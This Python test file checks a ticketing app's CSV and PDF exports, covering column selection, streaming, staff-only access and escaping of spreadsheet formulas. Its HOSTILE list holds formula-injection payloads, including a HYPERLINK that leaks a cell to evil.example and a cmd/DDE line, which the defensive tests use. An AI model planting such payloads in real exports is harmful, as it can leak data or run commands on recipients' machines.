"""Exports (issue 6 part 7): the filtered list as CSV, streamed, columns chosen, safe against
formula injection; a ticket and a list as PDF through WeasyPrint; the same visibility as lists."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.factories import (
    Persona,
    api_ticket,
    make_admin,
    make_agent,
    make_customer,
    make_message,
    make_ticket,
)
from tests.mail_admin import Browser
from ticketry.core.db import Database
from ticketry.exports import tables
from ticketry.exports.tables import safe_cell
from ticketry.users.models import User

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "  =1+1",
    'Quote " comma, and\nnewline',
]


@pytest.fixture
def cast(db: Database) -> dict[str, Persona]:
    return {
        "customer": make_customer(db),
        "agent": make_agent(db, departments=("technical",)),
        "admin": make_admin(db),
    }


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def export(client: TestClient, who: Persona, query: str = "") -> Any:
    return client.get(f"/api/v1/tickets/export.csv?{query}", headers=who.headers)


def pdf_text(content: bytes, tmp_path: Path) -> str:
    assert content.startswith(b"%PDF"), content[:20]
    source = tmp_path / "out.pdf"
    source.write_bytes(content)
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "pdftotext (Debian's poppler-utils) reads the PDF's text"
    done = subprocess.run(  # noqa: S603 - a fixed binary on our own file
        [pdftotext, "-layout", str(source), "-"], capture_output=True, check=True, text=True
    )
    return done.stdout


class TestCsv:
    def test_columns_order_and_filters_are_the_lists(
        self, client: TestClient, cast: dict[str, Persona]
    ) -> None:
        for title in ("Alpha", "Beta", "Gamma"):
            api_ticket(client, cast["customer"], title=title, department="technical", priority="high")
        api_ticket(client, cast["customer"], title="Low one", department="technical", priority="low")
        response = export(
            client, cast["agent"], "priority=high&sort=number&order=asc&columns=number,title&columns=priority"
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"].startswith('attachment; filename="tickets-')
        rows = read_csv(response.text)
        assert list(rows[0]) == ["Number", "Title", "Priority"]
        assert [(r["Title"], r["Priority"]) for r in rows] == [
            ("Alpha", "High"),
            ("Beta", "High"),
            ("Gamma", "High"),
        ]
        listed = client.get(
            "/api/v1/tickets?priority=high&sort=number&order=asc", headers=cast["agent"].headers
        )
        assert [r["Number"] for r in rows] == [t["number"] for t in listed.json()["data"]]

    def test_default_columns_and_every_column(self, client: TestClient, cast: dict[str, Persona]) -> None:
        ticket = api_ticket(client, cast["customer"], title="Printer", department="technical")
        client.patch(
            f"/api/v1/tickets/{ticket['id']}", json={"tags": ["b", "a"]}, headers=cast["agent"].headers
        )
        [row] = read_csv(export(client, cast["agent"]).text)
        assert list(row) == [tables.COLUMNS[c].label for c in tables.DEFAULT_COLUMNS]
        assert row["Tags"] == "a, b" and row["Status"] == "Open" and row["Assignee"] == ""
        everything = ",".join(tables.COLUMNS)
        [full] = read_csv(export(client, cast["agent"], f"columns={everything}").text)
        assert full["Customer e-mail"] == cast["customer"].email and full["Source"] == "api"

    def test_an_unknown_column_is_a_422(self, client: TestClient, cast: dict[str, Persona]) -> None:
        response = export(client, cast["agent"], "columns=number,password_hash")
        assert response.status_code == 422
        assert "password_hash" in response.json()["error"]["message"]

    def test_more_rows_than_one_chunk_stream_in_pieces(
        self, client: TestClient, db: Database, cast: dict[str, Persona], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(tables, "CHUNK", 7)  # a small chunk: the same code path as 1,000 at a time
        for number in range(30):
            api_ticket(client, cast["customer"], title=f"T{number:02d}", department="technical")
        with db.unit_of_work(write=False) as session:
            from ticketry.search.service import TicketFilters, TicketSort

            query = tables.list_query(session, cast["agent"].actor, TicketFilters(), TicketSort())
            pieces = list(session.execute(query).partitions())
        assert [len(rows) for rows in pieces] == [7, 7, 7, 7, 2]
        with client.stream(
            "GET", "/api/v1/tickets/export.csv?columns=title", headers=cast["agent"].headers
        ) as response:
            parts = list(response.iter_text())
        text = "".join(parts)
        assert len(read_csv(text)) == 30

    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_formula_injection_is_defused(
        self, client: TestClient, db: Database, cast: dict[str, Persona], hostile: str
    ) -> None:
        """In a title and in a customer's name, stored as typed (through the service)."""
        customer = make_customer(db)
        with db.unit_of_work() as session:
            user = session.get(User, customer.id)
            assert user is not None
            user.name = hostile
        make_ticket(db, customer, title=hostile, department="technical")
        stored = hostile.replace("\r", " ").replace("\n", " ")  # titles and names are one line (core.db)
        [row] = read_csv(export(client, cast["agent"], "columns=title,customer").text)
        assert row["Title"] == row["Customer"] == safe_cell(stored)
        dangerous = stored.lstrip().startswith(("=", "+", "-", "@")) or stored[0] in "\t\r"
        assert row["Title"].startswith("'") if dangerous else row["Title"] == stored

    def test_safe_cell(self) -> None:
        assert safe_cell("=1") == "'=1" and safe_cell(" @x") == "' @x" and safe_cell("\t-1") == "'\t-1"
        assert safe_cell("plain") == "plain" and safe_cell(None) == "" and safe_cell("a=b") == "a=b"

    def test_customers_cannot_export(self, client: TestClient, cast: dict[str, Persona]) -> None:
        api_ticket(client, cast["customer"], title="Mine", department="technical")
        response = export(client, cast["customer"])
        assert response.status_code == 403 and "Mine" not in response.text


class TestPdf:
    def test_a_ticket_with_notes_for_staff(
        self, client: TestClient, db: Database, cast: dict[str, Persona], tmp_path: Path
    ) -> None:
        ticket = api_ticket(client, cast["customer"], title="Printer smokes", department="technical")
        make_message(db, cast["agent"], int(ticket["id"]), body="Publicwombat answer")
        make_message(db, cast["agent"], int(ticket["id"]), body="Secretquokka note", internal=True)
        response = client.get(f"/api/v1/tickets/{ticket['id']}/export.pdf", headers=cast["agent"].headers)
        assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
        text = pdf_text(response.content, tmp_path)
        assert "Printer smokes" in text and "Publicwombat" in text and "Secretquokka" in text
        assert "Internal note" in text

    def test_the_list(self, client: TestClient, cast: dict[str, Persona], tmp_path: Path) -> None:
        api_ticket(client, cast["customer"], title="Listedkiwi", department="technical")
        api_ticket(client, cast["customer"], title="Billingemu", department="billing")
        response = client.get("/api/v1/tickets/export.pdf", headers=cast["agent"].headers)
        text = pdf_text(response.content, tmp_path)
        assert "Listedkiwi" in text and "Billingemu" not in text and "1 tickets" in text

    def test_customers_and_strangers(
        self, client: TestClient, db: Database, cast: dict[str, Persona]
    ) -> None:
        ticket = api_ticket(client, cast["customer"], title="Mine", department="billing")
        assert (
            client.get(
                f"/api/v1/tickets/{ticket['id']}/export.pdf", headers=cast["customer"].headers
            ).status_code
            == 403
        )
        assert (
            client.get(
                f"/api/v1/tickets/{ticket['id']}/export.pdf", headers=cast["agent"].headers
            ).status_code
            == 404
        )

    def test_without_the_extra_the_pdf_explains_itself(self, tmp_path: Path) -> None:
        """A real app in a fresh interpreter where `weasyprint` cannot be imported."""
        script = f"""
import sys
class Block:
    def find_spec(self, name, path=None, target=None):
        if name == "weasyprint" or name.startswith("weasyprint."):
            raise ImportError("blocked for the test")
        return None
sys.meta_path.insert(0, Block())
import os
os.environ["TICKETRY_DATABASE_URL"] = "sqlite:///{tmp_path / "missing.db"}"
from ticketry.migrations import upgrade
upgrade(os.environ["TICKETRY_DATABASE_URL"])
from fastapi.testclient import TestClient
from ticketry.app import create_app
from tests.factories import make_admin, make_customer, api_ticket
with TestClient(create_app()) as client:
    db = client.app.state.db
    admin = make_admin(db)
    ticket = api_ticket(client, make_customer(db), title="x")
    r = client.get(f"/api/v1/tickets/{{ticket['id']}}/export.pdf", headers=admin.headers)
    print(r.status_code, r.json()["error"]["code"], r.json()["error"]["message"])
"""
        done = subprocess.run(  # noqa: S603 - this interpreter running our own script
            [sys.executable, "-c", script],
            check=False,
            capture_output=True,
            text=True,
            cwd=Path(__file__).parents[2],
        )
        assert done.returncode == 0, done.stderr[-2000:]
        assert (
            "501 pdf_unavailable PDF export needs the optional extra: pip install 'ticketry[pdf]'"
            in done.stdout
        )


class TestDesk:
    def test_the_desk_export_is_the_list_on_screen(
        self, client: TestClient, db: Database, cast: dict[str, Persona]
    ) -> None:
        api_ticket(client, cast["customer"], title="Urgent one", department="technical", priority="urgent")
        api_ticket(client, cast["customer"], title="Calm one", department="technical", priority="low")
        browser = Browser(client, db, cast["agent"])
        page = browser.get("/desk?view=all&priority=urgent")
        assert 'name="list" value="view=all&amp;priority=urgent" form="export-form"' in page
        assert "Download CSV" in page and "Download PDF" in page
        response = client.get(
            "/desk/export.csv", params={"list": "view=all&priority=urgent", "columns": ["title"]}
        )
        assert response.status_code == 200
        assert [r["Title"] for r in read_csv(response.text)] == ["Urgent one"]
        pdf = client.get("/desk/export.pdf", params={"list": "view=all&priority=urgent"})
        assert pdf.content.startswith(b"%PDF")
        assert client.get("/desk/export.csv", params={"list": "status=bogus"}).status_code == 422
